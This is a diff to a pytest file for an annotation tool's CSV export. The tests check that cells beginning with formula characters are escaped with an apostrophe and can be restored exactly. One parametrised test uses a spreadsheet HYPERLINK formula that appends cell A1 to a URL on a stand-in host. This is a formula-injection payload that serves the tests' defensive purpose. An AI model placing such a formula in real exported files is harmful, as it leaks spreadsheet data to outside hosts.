@@ -9,10 +9,11 @@ import re
 
 import pytest
 
+from annotator.briefing.sanitize import clean_text
 from annotator.core.atomic_write import WriteError
 from annotator.core.briefing import BriefingOptions, build_briefing
 from annotator.core.models import AnchorStatus, Annotation, DocStatus, Document, Tag
-from annotator.formats.briefing_csv import COLUMNS, render_csv, write_csv
+from annotator.formats.briefing_csv import COLUMNS, from_cell, render_csv, write_csv
 from annotator.formats.briefing_markdown import escape, render_markdown, write_markdown
 
 TEXT = "First para with *stars*.\n\n# Not a heading\nThird, with a | pipe and, commas."
@@ -180,14 +181,14 @@ def _single(
     )
 
 
-@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t=", " ="])
 def test_csv_cells_that_would_start_a_formula_stay_text(mark):
     payload = f'{mark}HYPERLINK("http://x.example/?"&A1,"Click")'
     briefing = _single(payload, tag=payload, note=payload, author=payload, doc_title=payload)
     (row,) = _rows(render_csv(briefing))
     for column in ("document", "tag", "tag_path", "quote", "note", "author"):
         assert row[column].startswith("'"), column
-        assert row[column].endswith(payload[1:]), column
+        assert from_cell(row[column]) == clean_text(payload), column
     # The numeric columns stay numbers a spreadsheet can sum and sort.
     assert (row["annotation_id"], row["paragraph"], row["start"], row["end"]) == (
         "1",
@@ -195,6 +196,22 @@ def test_csv_cells_that_would_start_a_formula_stay_text(mark):
         "0",
         str(len(payload)),
     )
+
+
+@pytest.mark.parametrize(
+    "quote",
+    ["-Siberia-2 talks resumed", "- a bullet", "+44 20 7946 0000", "@home", "-5", "'quoted"],
+)
+def test_a_quote_no_spreadsheet_evaluates_equals_the_text_at_its_offsets(quote):
+    (row,) = _rows(render_csv(_single(quote)))
+    text = quote  # the document's text is the quote itself
+    assert row["quote"] == text[int(row["start"]) : int(row["end"])] == quote
+
+
+@pytest.mark.parametrize("data", ["=1+1", "'=1+1", "''=x", "-f(x)", "'-f(x)", "plain", "'plain"])
+def test_the_guard_can_always_be_taken_off(data):
+    (row,) = _rows(render_csv(_single(data)))
+    assert from_cell(row["quote"]) == data
 
 
 def test_csv_leaves_formula_characters_inside_a_cell_alone():
